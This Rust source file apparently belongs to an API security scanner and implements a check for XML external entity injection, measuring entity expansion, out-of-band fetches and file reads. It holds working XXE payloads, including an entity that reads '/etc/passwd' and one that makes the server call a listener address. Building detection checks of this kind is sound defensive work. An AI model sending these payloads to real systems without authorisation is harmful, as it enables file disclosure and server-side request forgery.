//! INJ-08: the server's XML reader expands entities that the caller declares.

use crate::bodies;
use crate::check::{Check, Family, Oracle, Scope, Tier};
use crate::context::Context;
use crate::inputs::body_media;
use crate::oracle::file_signature::system_file;
use crate::oracle::out_of_band::nobody_came;
use crate::step::{Request, Step};
use crate::tape::{Flow, Reply, Tape};
use avouch_catalog::values::value_for;
use avouch_model::identity::Who;
use avouch_model::operation::{Media, Method, Operation};
use avouch_model::reference::{Cwe, Owasp};
use avouch_model::severity::{Confidence, Severity};
use avouch_model::verdict::{Proof, Verdict};
use serde_json::{Map, Value};

/// INJ-08
pub(super) const CHECK: Check = Check {
    id: "INJ-08",
    name: "entity-expanded",
    title: "The server's XML reader expands entities that the caller declares",
    family: Family::Inj,
    severity: Severity::High,
    confidence: Confidence::Confirmed,
    oracles: &[Oracle::Computed, Oracle::OutOfBand, Oracle::Grammar],
    tier: Tier::Active,
    needs: &[],
    scope: Scope::Operation,
    cwe: Cwe(611),
    owasp: &[Owasp::Api(8)],
    criteria: &["CC6.6"],
    page: include_str!("entity_expanded.md"),
    applies,
    run,
};

/// LIMIT: milliseconds the target is given to come.
const WAIT_MS: u32 = 2_000;

fn applies(ctx: &Context<'_>) -> bool {
    ctx.operation.is_some_and(|operation| {
        let writes = matches!(operation.method, Method::Post | Method::Put | Method::Patch);
        writes && model(ctx, operation).is_some()
    })
}

/// A document for an operation: who sends it where, and the texts in it.
struct Model {
    request: Request,
    who: Who,
    texts: Vec<String>,
}

/// From a request that was understood, or where XML is described from its description.
fn model(ctx: &Context<'_>, operation: &Operation) -> Option<Model> {
    let sampled = [Who::A, Who::B, Who::High, Who::Nobody].into_iter().find_map(|who| {
        let sample = ctx.samples(who).into_iter().find(|sample| {
            sample.answer().is_some_and(|a| a.is_success() || matches!(a.status, 400 | 422))
        })?;
        Some((sample.request.clone(), who, names(&sample.sent_body()?)?))
    });
    let described = || {
        let media = operation.body.iter().find(|media| media.media_type.contains("xml"))?;
        let plain = operation.path_parameters().next().is_none();
        let request = Request::new(operation.method.clone(), ctx.path(&operation.path));
        let who = ctx.anyone().unwrap_or(Who::Nobody);
        plain.then(|| (request.by(who), who, names_of(media)))
    };
    let json = body_media(operation).is_none_or(|media| media.media_type.contains("json"));
    let (request, who, texts) = sampled.filter(|_| json).or_else(described)?;
    Some(Model { request, who, texts })
}

fn names(body: &Value) -> Option<Vec<String>> {
    let plain = |name: &&String| name.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'_');
    Some(body.as_object()?.keys().filter(plain).cloned().collect())
}

fn names_of(media: &Media) -> Vec<String> {
    let made = value_for("", &media.schema, 0);
    let described = media.schema.properties.keys().map(|name| (name.clone(), Value::Null));
    let all: Map<String, Value> =
        described.chain(made.as_object().cloned().unwrap_or_default()).collect();
    names(&Value::Object(all)).unwrap_or_default()
}

/// The document with that type declaration, and that text in every element.
fn document(model: &Model, declaration: &str, text: &str) -> Request {
    let element = |name: &String| format!("<{name}>{text}</{name}>");
    let elements: Vec<String> = model.texts.iter().map(element).collect();
    let elements = if elements.is_empty() { text.to_owned() } else { elements.concat() };
    let mut request = model.request.clone().header("content-type", "application/xml");
    request.body = Some(format!("<?xml version=\"1.0\"?>{declaration}<root>{elements}</root>"));
    request
}

fn send<'t>(ctx: &Context<'_>, tape: &mut Tape<'t>, request: Request) -> Result<Reply<'t>, Step> {
    let operation = ctx.operation()?;
    tape.send(bodies::with_creation(ctx, operation, request))
}

fn run(ctx: &Context<'_>, tape: &mut Tape<'_>) -> Flow {
    let operation = ctx.operation()?;
    let model = model(ctx, operation).ok_or(Step::Done(Verdict::NotApplicable))?;
    let half = |label: &str| ctx.nonces.word(label, 9);
    let (left, right) = (half("left"), half("right"));
    let declaration = format!("<!DOCTYPE root [<!ENTITY a \"{left}\"><!ENTITY b \"{right}\">]>");
    let inner = send(ctx, tape, document(&model, &declaration, "&a;&b;"))?;
    let expanded = inner.body.contains(&format!("{left}{right}"));
    if !expanded && matches!(inner.status, 404 | 405 | 406 | 415 | 501) {
        return Ok(Verdict::Pass);
    }
    if matches!(inner.status, 401 | 403) {
        return Ok(Verdict::inconclusive(format!("{} was refused: {}", model.who, inner.status)));
    }
    if let Some(proof) = fetched(ctx, tape, &model)? {
        return Ok(Verdict::fail(proof));
    }
    if !expanded {
        return Ok(Verdict::Pass);
    }
    let declaration = "<!DOCTYPE root [<!ENTITY a SYSTEM \"file:///etc/passwd\">]>";
    let file = send(ctx, tape, document(&model, declaration, "&a;"))?;
    let read = system_file(&file.body).filter(|_| system_file(&inner.body).is_none());
    let who = model.who;
    let proof = if let Some(found) = read {
        let summary = format!("{who} declared an entity for `/etc/passwd` and was given the file");
        Proof::new(Severity::High, Confidence::Confirmed, summary)
            .because(format!("the answer holds {found}"))
    } else {
        let summary = format!("{who} declared entities, and the answer held what they stand for");
        Proof::new(Severity::Medium, Confidence::Confirmed, summary).because(
            "files and addresses were not seen to be read: what is left is that a few lines \
             expand to gigabytes",
        )
    };
    Ok(Verdict::fail(
        proof
            .because("two random words, declared apart, stood together in the answer")
            .shown_by([inner.index, file.index]),
    ))
}

/// O10: an entity that is an address is fetched.
fn fetched(ctx: &Context<'_>, tape: &mut Tape<'_>, model: &Model) -> Result<Option<Proof>, Step> {
    let Some(listener) = ctx.out_of_band else { return Ok(None) };
    let token = ctx.nonces.hex("token", 24);
    nobody_came(tape, &token)?;
    let address = listener.url(&token);
    let declaration = format!(
        "<!DOCTYPE root [<!ENTITY % p SYSTEM \"{address}\"> %p;<!ENTITY a SYSTEM \"{address}\">]>"
    );
    let asked = send(ctx, tape, document(model, &declaration, "&a;"))?;
    let hits = tape.await_hit(&token, WAIT_MS)?;
    let Some(hit) = hits.first() else { return Ok(None) };
    let confidence = if hit.protocol == "dns" { Confidence::Firm } else { Confidence::Confirmed };
    let summary = format!("{} declared an entity at our address, and the server came", model.who);
    let proof = Proof::new(Severity::High, confidence, summary)
        .because("nobody had come with that random token before the document was sent")
        .because(format!("then it came by {} from `{}`", hit.protocol, hit.from))
        .because("so files and inner addresses can be named as well")
        .shown_by([asked.index]);
    Ok(Some(proof))
}
